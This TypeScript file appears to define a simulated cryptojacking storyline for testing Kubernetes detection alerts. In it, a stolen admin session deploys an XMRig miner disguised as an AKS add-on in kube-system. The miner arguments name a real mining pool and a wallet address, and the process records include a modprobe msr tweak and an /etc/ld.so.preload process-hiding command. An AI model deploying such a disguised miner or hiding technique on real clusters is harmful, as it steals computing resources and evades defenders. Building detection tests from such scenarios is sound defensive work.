import { IP, USER_AGENT } from '../cluster/constants';
import type { WorkloadSpec } from '../cluster/types';
import type { Storyline } from '../scenario/storyline';

const POOL = 'pool.supportxmr.com';
const MINER_ARGS = `-o stratum+tcp://${POOL}:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --cpu-max-threads-hint=95 --donate-level=1`;

/** A DaemonSet named like an AKS add-on, running a renamed XMRig build on every node. */
const minerDaemonSet: WorkloadSpec = {
  kind: 'DaemonSet',
  name: 'azure-node-monitor',
  namespace: 'kube-system',
  template: {
    labels: { app: 'azure-node-monitor' },
    serviceAccount: 'default',
    containers: [
      {
        name: 'node-agent',
        image: { registry: 'docker.io', repository: 'metrics-exporter/node-agent', tag: '1.2' },
        command: ['/usr/local/bin/node-agent'],
        args: MINER_ARGS.split(' '),
        logs: 'xmrig',
        process: {
          exe: '/usr/local/bin/node-agent',
          cmdline: `/usr/local/bin/node-agent ${MINER_ARGS}`,
          user: 'root',
        },
      },
    ],
  },
};

/** B7 standalone: an administrator's stolen Entra session, used through a TOR exit, deploys a miner in kube-system. */
export const cryptoMinerDaemonSet: Storyline = {
  id: 'crypto-miner-daemonset',
  title: 'A mining DaemonSet hiding in kube-system',
  summary:
    "An administrator's stolen session, used through an anonymising proxy, deploys a crypto miner on every node under an add-on-like name.",
  attackHourUtc: 9,
  actors: {
    stolenAdmin: {
      kind: 'user',
      upn: 'm.keller@contoso.com',
      oid: '8a2c4e6f-0b1d-4f3a-9c5e-7d9f1b3d5e7a',
      sourceIp: IP.torExit,
      userAgent: USER_AGENT.kubectl,
      admin: true,
    },
  },
  steps: [
    {
      at: 0,
      description: "Checks what the stolen session may do (kubectl auth can-i '*' '*')",
      actions: [
        {
          type: 'api',
          actor: 'stolenAdmin',
          verb: 'create',
          resource: 'selfsubjectaccessreviews',
          apiGroup: 'authorization.k8s.io',
          code: 201,
          requestObject: {
            kind: 'SelfSubjectAccessReview',
            apiVersion: 'authorization.k8s.io/v1',
            spec: { resourceAttributes: { verb: '*', resource: '*' } },
          },
        },
      ],
    },
    {
      at: 45,
      description: 'Looks at what runs in kube-system',
      actions: [
        {
          type: 'api',
          actor: 'stolenAdmin',
          verb: 'list',
          resource: 'daemonsets',
          apiGroup: 'apps',
          namespace: 'kube-system',
          query: 'limit=500',
        },
        {
          type: 'api',
          actor: 'stolenAdmin',
          verb: 'list',
          resource: 'pods',
          namespace: 'kube-system',
          query: 'limit=500',
        },
      ],
    },
    {
      at: 180,
      description: 'Creates the DaemonSet kube-system/azure-node-monitor',
      actions: [{ type: 'createDaemonSet', actor: 'stolenAdmin', workload: minerDaemonSet }],
    },
    {
      at: 215,
      description: 'The miner reaches the pool (DNS, then stratum on 3333)',
      actions: [
        {
          type: 'connect',
          pod: { namespace: 'kube-system', workload: 'azure-node-monitor' },
          ip: IP.miningPool,
          port: 3333,
          domain: POOL,
        },
      ],
    },
    {
      at: 240,
      description: 'Tries to tune the CPU for mining and to hide itself',
      actions: [
        {
          type: 'process',
          pod: { namespace: 'kube-system', workload: 'azure-node-monitor' },
          exe: '/sbin/modprobe',
          cmdline: 'modprobe msr allow_writes=on',
          parentExe: '/usr/local/bin/node-agent',
          user: 'root',
        },
        {
          type: 'process',
          pod: { namespace: 'kube-system', workload: 'azure-node-monitor' },
          exe: '/bin/sh',
          cmdline: "sh -c 'echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload'",
          parentExe: '/usr/local/bin/node-agent',
          user: 'root',
          files: [{ path: '/etc/ld.so.preload', operation: 'write' }],
        },
      ],
    },
  ],
  expectedAlerts: [
    { alertType: 'K8S_TI_Proxy', step: 0 },
    { alertType: 'K8S_KubeSystemContainer', step: 2 },
    { alertType: 'K8S.NODE_DigitalCurrencyMining', step: 2, withinSeconds: 60 },
  ],
};
